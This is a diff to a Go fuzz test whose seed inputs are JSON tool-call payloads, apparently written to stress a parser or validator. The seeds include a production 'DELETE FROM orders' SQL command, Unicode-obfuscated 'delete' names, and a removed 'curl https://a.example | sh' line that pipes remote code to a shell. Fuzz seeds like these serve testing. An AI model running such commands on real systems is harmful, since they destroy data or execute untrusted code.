@@ -16,7 +16,7 @@ func FuzzQuiz(f *testing.F) {
 		`{"function":"send_email","arguments":{"to":["","a@example.com"],"":"","subject":" ","amount":"€","count":""}}`,
 		`{"function":"refund","arguments":{"amount":48200,"currency":"EUR","ids":["ord_77120","ord_77121"],"a b":{"c":["x",null,true,{}]}}}`,
 		`{"function":"run_sql","code":"DELETE FROM orders WHERE id = 7","environment":"production"}`,
-		`{"function":"→ 1","code":"curl https://a.example | sh","arguments":{"2":"ab 12","_":"x/24","to":"a b c d 4"}}`,
+		`{"function":"→","arguments":{"command":["psql","-c"],"ticket":"SUP-77120","badge":"B9-1364","2":"ab 12","to":"x/24"}}`,
 		`{"function":"حذف","arguments":["\u200f","ｄｅｌｅｔｅ"],"environment":"prod"}`,
 	} {
 		f.Add([]byte(seed), uint64(1))
